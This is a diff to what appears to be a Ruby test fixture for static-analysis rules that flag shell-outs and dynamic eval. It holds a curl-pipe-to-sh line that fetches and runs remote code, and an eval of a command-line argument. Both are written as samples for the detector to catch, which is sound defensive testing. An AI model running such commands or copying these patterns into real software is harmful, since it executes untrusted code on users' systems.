@@ -24,3 +24,9 @@ system("curl -s https://example.com/x | sh")
 out = `uname -a`
 # ok: package.rb.shell-out
 puts "system ready"
+
+cmd = ARGV.first
+# ruleid: package.rb.dynamic-eval
+eval(cmd)
+# ok: package.rb.dynamic-eval
+eval("1 + 1")
